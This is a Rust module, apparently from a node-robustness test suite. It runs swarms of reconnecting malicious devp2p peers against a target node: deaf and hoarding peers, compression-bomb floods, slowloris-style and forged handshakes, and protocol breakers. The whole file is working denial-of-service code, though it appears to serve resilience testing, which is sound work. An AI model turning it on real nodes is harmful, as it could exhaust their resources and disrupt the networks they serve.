//! Peers of every bad kind at once, that come back from another address whenever the node has ended them.
//! Each is a row's attack in small: what the kinds do is in the rows named beside them.

use std::{
    future::pending,
    sync::{
        Arc,
        atomic::{AtomicU32, Ordering},
    },
    time::Duration,
};

use bytes::Bytes;
use devp2p::{identity::Enode, rlpx::SharedMessage};
use interop::{
    Result,
    flood::{Client, IGNORED, POUR, UNKNOWN, attacker, prepare_auth, socket},
};
use rand::{Rng, rand_core::UnwrapErr, rngs::SysRng};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
    time::{interval, timeout},
};

use super::{
    Attack,
    handshakes::{address, change},
    ready,
};

/// Before a peer that was ended comes back.
const PAUSE: Duration = Duration::from_secs(1);
/// Between two bytes of who is slow.
const DRIP: Duration = Duration::from_millis(500);
/// How long a peer holds on that does nothing more: longer than the node waits for one that does not read (20 s).
const HOLD: Duration = Duration::from_secs(25);
/// A message of the greatest length, about.
const LARGE_LEN: usize = 15 << 20;

/// What a peer does.
#[derive(Clone, Copy, Debug)]
enum Kind {
    /// Asks for messages without end and reads none (P13).
    Deaf,
    /// Sends a large message but for its last byte (F03).
    Hoarder,
    /// Sends messages that inflate to 21 times their bytes, without a pause (F09).
    Bomber,
    /// Connects and says nothing (H11).
    Silent,
    /// Says a byte of its auth each half second (H10).
    Slow,
    /// Sends an auth that was changed (H12).
    Liar,
    /// Is a peer, and breaks the protocol at once (P04, P10).
    Breaker,
}

/// Of ten peers.
const KINDS: [Kind; 10] = [
    Kind::Deaf,
    Kind::Hoarder,
    Kind::Bomber,
    Kind::Silent,
    Kind::Slow,
    Kind::Liar,
    Kind::Breaker,
    Kind::Deaf,
    Kind::Hoarder,
    Kind::Silent,
];

/// What all have in common.
struct Stage {
    target: Enode,
    /// Connections so far, each from an address of its own.
    opened: AtomicU32,
    noise: SharedMessage,
    bomb: SharedMessage,
}

pub(super) async fn run(attack: &Attack, count: u32) -> Result<()> {
    let mut noise = vec![0; LARGE_LEN];
    UnwrapErr(SysRng).fill_bytes(&mut noise);
    let stage = Arc::new(Stage {
        target: attack.target.clone(),
        opened: AtomicU32::new(0),
        noise: SharedMessage::new(IGNORED, noise.into()),
        bomb: SharedMessage::new(IGNORED, vec![0; LARGE_LEN].into()),
    });
    ready()?;
    let mut peers = JoinSet::new();
    for kind in KINDS.into_iter().cycle().take(count as usize) {
        let stage = Arc::clone(&stage);
        peers.spawn(async move {
            let mut times = interval(PAUSE);
            loop {
                times.tick().await;
                // The node has ended it, or has not let it in.
                let _ = stage.act(kind).await;
            }
        });
    }
    // None of them ends by itself.
    let _ = timeout(Duration::from_secs(attack.seconds.into()), peers.join_next()).await;
    println!("{count} peers of every kind, {} connections", stage.opened.load(Ordering::Relaxed));
    Ok(())
}

impl Stage {
    /// One connection of a peer, to its end.
    async fn act(&self, kind: Kind) -> Result<()> {
        let from = attacker(self.opened.fetch_add(1, Ordering::Relaxed));
        match kind {
            Kind::Silent => {
                let mut stream = socket(from)?.connect(address(&self.target)?).await?;
                stream.read_u8().await?;
            }
            Kind::Slow => {
                let auth = prepare_auth(&self.target)?;
                let mut stream = socket(from)?.connect(address(&self.target)?).await?;
                let mut times = interval(DRIP);
                for byte in auth {
                    times.tick().await;
                    stream.write_all(&[byte]).await?;
                }
            }
            Kind::Liar => {
                let auth = change(&self.target)?;
                let mut stream = socket(from)?.connect(address(&self.target)?).await?;
                stream.write_all(&auth).await?;
                stream.read_u8().await?;
            }
            Kind::Deaf => {
                let mut peer = Client::connect(from, &self.target).await?;
                peer.send(POUR, Bytes::from_static(b"\x80")).await?;
                let _ = timeout(HOLD, pending::<()>()).await;
            }
            Kind::Hoarder => {
                let mut peer = Client::connect(from, &self.target).await?;
                peer.send_but(&self.noise, 1).await?;
                let _ = timeout(HOLD, pending::<()>()).await;
            }
            Kind::Bomber => {
                let mut peer = Client::connect(from, &self.target).await?;
                loop {
                    peer.send_but(&self.bomb, 0).await?;
                }
            }
            Kind::Breaker => {
                let mut peer = Client::connect(from, &self.target).await?;
                peer.send(UNKNOWN, Bytes::from_static(b"\x80")).await?;
                while peer.next().await.is_ok() {}
            }
        }
        Ok(())
    }
}
